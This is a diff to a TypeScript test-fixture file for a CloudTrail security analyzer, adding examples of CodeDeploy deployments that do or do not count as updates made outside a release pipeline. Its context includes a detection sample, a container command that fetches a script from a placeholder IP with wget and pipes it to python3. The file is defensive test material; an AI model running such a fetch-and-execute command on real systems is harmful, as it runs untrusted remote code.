@@ -1,4 +1,5 @@
-import { EXAMPLE_ACCOUNT } from '../example-event';
+import type { JsonObject } from '../../../records/cloudtrail/cloudtrail-record';
+import { EXAMPLE_ACCOUNT, exampleRole } from '../example-event';
 import {
   byPipeline,
   ECR,
@@ -65,6 +66,19 @@ const transcripts = one('ecs', 'UpdateCluster', {
 const route = one('ec2', 'AssociateRouteTable', { routeTableId: 'rtb-1', subnetId: 'subnet-1' });
 const glue = one('glue', 'UpdateTable', { databaseName: 'audit', tableInput: { name: 'cloudtrail_logs' } });
 
+const codeDeployment = (revision: JsonObject | undefined, more = {}) =>
+  one(
+    'codedeploy',
+    'CreateDeployment',
+    { applicationName: 'shop', deploymentGroupName: 'web', ...(revision && { revision }) },
+    more,
+  );
+const APP_SPEC = { revisionType: 'AppSpecContent', appSpecContent: { content: 'version: 0.0' } };
+const bundle = (bundleType: string) => ({
+  revisionType: 'S3',
+  s3Location: { bucket: 'releases', key: 'web', bundleType },
+});
+
 /** What the trail analyzer sees of the deeds of filters, and the filters themselves cannot. */
 export const BEYOND_EXAMPLES: TrailExampleTable = {
   'ecs-exec-logging-weakened': {
@@ -78,6 +92,20 @@ export const BEYOND_EXAMPLES: TrailExampleTable = {
   'ecs-shell-code-in-command': {
     fires: [run(['sh', '-c', 'wget -qO- http://203.0.113.9/x | python3'])],
     staysSilent: [run(['sh', '-c', 'node server.js | tee log'])],
+  },
+  'ecs-service-updated-outside-pipeline': {
+    fires: [codeDeployment(APP_SPEC), codeDeployment(bundle('YAML')), codeDeployment(undefined)],
+    staysSilent: [
+      // To instances.
+      codeDeployment(bundle('zip')),
+      codeDeployment({ revisionType: 'GitHub', gitHubLocation: { repository: 'shop/web', commitId: 'a1' } }),
+      byPipeline(codeDeployment(APP_SPEC)),
+      refused(codeDeployment(APP_SPEC)),
+      // A pipeline of CodePipeline, with the role that it was given.
+      codeDeployment(APP_SPEC, {
+        userIdentity: { ...exampleRole('release', 's'), invokedBy: 'codepipeline.amazonaws.com' },
+      }),
+    ],
   },
   'ecs-foreign-image-defined': {
     fires: [
